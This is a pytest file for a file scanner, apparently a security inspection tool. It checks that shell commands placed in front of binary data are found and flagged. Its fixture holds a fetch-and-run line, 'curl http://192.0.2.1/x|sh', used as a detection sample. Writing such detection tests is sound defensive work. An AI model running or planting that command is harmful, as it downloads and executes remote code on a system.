"""Text in front of other bytes is read as text, wherever it ends."""

import pytest

from harness.inspecting import inspect_bytes, subject_of
from pratique.artifacts.readers.text_front import TextFrontReader

FETCHES = b"#!/bin/sh\ncurl http://192.0.2.1/x|sh\n"
BINARY = bytes(range(256))


@pytest.mark.parametrize(
    ("front", "behind"),
    [
        (FETCHES, BINARY),
        (FETCHES, b"\xff\xfe\xfd" + BINARY),
        (FETCHES + b"# caf\xe9 au lait, and more of the same to drink\n" * 3, BINARY),
        (FETCHES + b"# text\n" * 20_000, BINARY),
        (FETCHES + b"# text\n" * 20_000, b"\xff\xfe\xfd" * 99),
    ],
)
def test_commands_in_front_of_other_bytes_are_found(front: bytes, behind: bytes) -> None:
    told = inspect_bytes(front + behind)
    assert {"MAL046", "INT001"} <= told.rules
    assert not told.full
    assert {f.at.chain for f in told.findings if f.rule == "MAL046"} == {("front",)}


@pytest.mark.parametrize(
    "body",
    [
        b"",
        FETCHES,
        b"#!/bin/sh\n# \x1b[1mbold\x1b[0m\n",
        b"%PDF-1.7\n" + BINARY,
        b"#!notapath" + BINARY,
        b"<?xml version='1.0'?><VTKFile>" + BINARY,
    ],
)
def test_other_files_have_no_such_front(body: bytes) -> None:
    assert not TextFrontReader().recognises(subject_of(body))
